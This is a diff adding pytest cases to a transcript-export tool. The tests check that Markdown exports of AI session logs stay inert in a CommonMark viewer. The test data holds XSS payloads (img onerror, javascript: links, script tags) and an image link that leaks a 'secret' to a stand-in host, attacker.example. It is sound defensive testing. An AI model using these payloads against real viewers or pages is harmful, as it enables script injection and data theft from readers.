@@ -897,6 +897,132 @@ def test_markdown_text_keeps_its_code_and_loses_its_tags() -> None:
     assert _code("`x") == "`` `x ``"
 
 
+# What a Markdown viewer renders for a page: the tags Markdown itself makes, and a
+# <details> the export writes around thinking. Anything else (an image, a script, a
+# comment, a tag from the transcript) is the transcript's markup taking effect.
+_MARKDOWN_TAGS = {"h1", "h2", "p", "ul", "ol", "li", "strong", "em", "code", "pre",
+                  "blockquote", "hr", "br", "a", "details", "summary"}  # fmt: skip
+
+
+def _in_a_viewer(markdown_text: str) -> str:
+    """The HTML a CommonMark viewer makes of `markdown_text`, raw HTML on and every link
+    target trusted (as some viewers do)."""
+    from markdown_it import MarkdownIt
+
+    viewer = MarkdownIt("commonmark")
+    viewer.validateLink = lambda url: True  # type: ignore[method-assign]
+    return viewer.render(markdown_text)
+
+
+def _live_markup(page: str) -> list[str]:
+    """What in a rendered page acts: a tag Markdown does not make, a link off the web."""
+    tags = [t for t in re.findall(r"</?([A-Za-z!][^\s>/]*)", page) if t.lower() not in _MARKDOWN_TAGS]  # fmt: skip
+    links = re.findall(r'<a href="([^"]*)"', page)
+    return tags + [
+        h for h in links if not h.startswith(("https://", "http://", "mailto:"))
+    ]
+
+
+def test_markdown_export_stays_inert_in_a_markdown_viewer(tmp_path: Path) -> None:
+    """Text that only looks like code to a careless reader of Markdown (a run of
+    backticks nothing closes, an escaped backtick, a fence whose info string has a
+    backtick, a fence at the start of a reply or in a title), an image that a viewer
+    would fetch on opening, a javascript: link, and a fence never closed that would
+    swallow the rest of the export: rendered by a real CommonMark parser, nothing acts
+    and everything after them still shows."""
+    home = tmp_path / "home"
+    session_id = "13131313-0000-4000-8000-000000000012"
+    prompt = "\n\n".join([
+        "``<img src=x onerror=alert(1)>`",
+        "\\`<img src=x onerror=alert(2)>`",
+        "```x`\n<img src=x onerror=alert(3)>",
+        "![pixel](http://attacker.example/p.png?leak=secret) [click](javascript:alert(4))",
+        "```\nleft open",
+    ])  # fmt: skip
+    path = write_claude_session(
+        home,
+        session_id,
+        str(tmp_path),
+        prompt=prompt,
+        title="~~~<img src=x onerror=alert(5)>",
+    )
+    content = [
+        {"type": "text", "text": "~~~\n<img src=x onerror=alert(6)>"},
+        {"type": "tool_use", "id": "t1", "name": "~~~<img src=x onerror=alert(7)>",
+         "input": {"command": "ls"}},
+    ]  # fmt: skip
+    line = claude_line(
+        session_id, str(tmp_path), type="assistant", uuid="a2", parentUuid="a1",
+        timestamp="2026-11-20T10:00:09.000Z", requestId="req_2",
+        message={"id": "msg_2", "role": "assistant", "model": "claude-sonnet-4-5",
+                 "content": content, "usage": {"input_tokens": 1, "output_tokens": 1}},
+    )  # fmt: skip
+    with path.open("a") as out:
+        out.write(json.dumps(line) + "\n")
+    target = tmp_path / "session.md"
+    code, _, err = invoke("export", "1313", "-o", str(target), "--home", str(home))
+    assert code == 0, err
+    page = _in_a_viewer(target.read_text())
+    assert _live_markup(page) == []
+    for n in (1, 2, 3, 5, 6, 7):  # each one shown, as text
+        assert f"&lt;img src=x onerror=alert({n})&gt;" in page
+    assert "![pixel](http://attacker.example/p.png?leak=secret)" in page
+    assert "[click](javascript:alert(4))" in page
+    assert "<pre><code>left open\n</code></pre>" in page  # closed where its text ends
+    assert "<p><strong>Assistant:</strong> hi</p>" in page  # not swallowed by it
+
+
+def test_markdown_text_of_any_shape_renders_inert() -> None:
+    """Pieces of Markdown's syntax in any order, as a prompt, a reply, thinking, a tool's
+    name, input and output, and a title: a viewer finds no markup in them, and the
+    event after them still shows as its own."""
+    import random
+
+    from sessdex.model import Session
+    from sessdex.views import markdown
+
+    pieces = ["`", "``", "```", "~~~", "\\", "\\`", "\n", "\n\n", "   ", "    ", "- ",
+              "> ", "1. ", "# ", "x", "<", "!", "[", "]", "(", ")", ":", "<img src=x onerror=y>",
+              "<!--", "<script>", "![i](http://e.example/i.png)", "[l](javascript:y)",
+              "[r]: javascript:y", "[r]", "<http://e.example/>", "&lt;", "java&#115;cript:y"]  # fmt: skip
+    draw = random.Random(5)
+    for _ in range(1500):
+        text = "".join(draw.choice(pieces) for _ in range(draw.randint(1, 30)))
+        kind = draw.choice(
+            ["user", "assistant", "thinking", "tool_result", "error", "meta"]
+        )
+        events = [
+            Event("s", 0, kind, text=text),  # type: ignore[arg-type]
+            Event("s", 1, "tool_call", tool=text, extra={"input": {"command": text}}),
+            Event("s", 2, "user", text="the next prompt"),
+        ]
+        page = _in_a_viewer("".join(markdown.render(Session(app="claude", id="s", title=text), events)))  # fmt: skip
+        assert _live_markup(page) == [], text
+        assert "<h2>User</h2>\n<p>the next prompt</p>" in page, text
+
+
+def test_markdown_code_shows_as_written_where_it_was() -> None:
+    """Code spans and fenced blocks keep their text as written, a block in a list item
+    stays in it, and a block fenced with tildes or with more backticks than it holds
+    keeps its language."""
+    from sessdex.views.markdown import _no_html
+
+    text = (
+        "1. Run:\n   ```bash\n   npm test <x>\n   ```\n2. Then `<div>` and ``a ` b``\n\n"
+        "~~~~ py\nprint('<b>')\n`````\n~~~~"
+    )
+    page = _in_a_viewer(_no_html(text))
+    assert (
+        '<li>Run:<pre><code class="language-bash">npm test &lt;x&gt;\n</code></pre>'
+        in page
+    )
+    assert "<li>Then <code>&lt;div&gt;</code> and <code>a ` b</code></li>" in page
+    assert (
+        "<pre><code class=\"language-py\">print('&lt;b&gt;')\n`````\n</code></pre>"
+        in page
+    )
+
+
 def test_only_what_a_person_typed_is_shown_as_typed() -> None:
     """A slash command shows as typed (`/orchestrator …`), not in the wrapper Claude Code
     records it in; the prompt the app expanded it to is the app's words, folded (and
